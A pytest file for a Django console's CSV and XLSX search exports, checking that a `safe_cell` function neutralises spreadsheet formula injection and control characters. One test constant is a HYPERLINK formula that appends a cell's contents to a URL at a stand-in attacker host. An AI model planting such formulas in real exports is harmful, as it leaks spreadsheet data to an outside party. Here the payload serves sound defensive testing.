"""Spreadsheet formula injection (issue 17): one rule, `exports.safe_cell`, for every cell
of every CSV and XLSX export; the console's search exports hold it end to end."""

import csv
import io
from datetime import datetime

import pytest
from django.test import Client
from openpyxl import load_workbook

from suishoupai.cases.tests.journeys import report
from suishoupai.exports import safe_cell

ATTACK = '=HYPERLINK("http://attacker.invalid/?x="&A2,"查看")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (ATTACK, "'" + ATTACK),
        ("+86 139", "'+86 139"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("路边有垃圾 = 很多", "路边有垃圾 = 很多"),  # only the first character matters
        ("垃圾\x01堆", "垃圾堆"),  # XLSX cannot hold control characters
        ("\x01=1", "'=1"),  # nor hide a formula behind one
        ("", ""),
    ],
)
def test_text_that_a_spreadsheet_would_run_is_written_as_text(value, written):
    assert safe_cell(value) == written


def test_numbers_dates_and_empty_cells_pass_unchanged():
    moment = datetime(2026, 11, 25, 9, 0)
    assert [safe_cell(v) for v in (-5, 1.5, moment, None, True)] == [-5, 1.5, moment, None, True]


@pytest.fixture
def attacked(city, people):
    case = report(city, address="@靖宇街1号")
    case.description = ATTACK + "\x0b"
    case.save()
    client = Client()
    client.force_login(people["olga"])
    return case, client


@pytest.mark.django_db
def test_the_csv_export_writes_a_formula_as_text(attacked):
    case, client = attacked
    response = client.get("/console/search/export.csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    [row] = rows[1:]
    assert row[0] == case.number
    assert row[5] == "'@靖宇街1号"
    assert row[6] == "'" + ATTACK


@pytest.mark.django_db
def test_the_excel_export_has_no_formula_and_survives_control_characters(attacked):
    _case, client = attacked
    response = client.get("/console/search/export.xlsx")
    assert response.status_code == 200  # a control character was a 500
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    [cells] = list(sheet.iter_rows(min_row=2))
    assert cells[6].data_type == "s"
    assert cells[6].value == "'" + ATTACK
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
